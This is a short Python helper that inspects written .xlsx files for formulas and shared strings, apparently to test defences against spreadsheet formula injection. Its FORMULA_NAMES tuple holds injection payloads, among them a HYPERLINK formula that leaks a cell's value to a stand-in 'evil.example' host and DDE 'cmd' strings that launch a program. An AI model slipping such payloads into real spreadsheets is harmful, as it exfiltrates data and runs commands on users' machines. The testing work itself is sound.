"""Look inside written .xlsx files: which cells are formulas, which strings they hold."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

# Every kind of text that Excel (or LibreOffice) would run as a formula if it were written as one.
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def formulas_in(path: Path) -> list[str]:
    """The formulas (`<f>` elements) of every worksheet in the workbook."""
    with zipfile.ZipFile(path) as book:
        return [formula for name in book.namelist() if name.startswith("xl/worksheets/sheet")
                for formula in re.findall(r"<f[ >](.*?)</f>", book.read(name).decode())]


def shared_strings(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
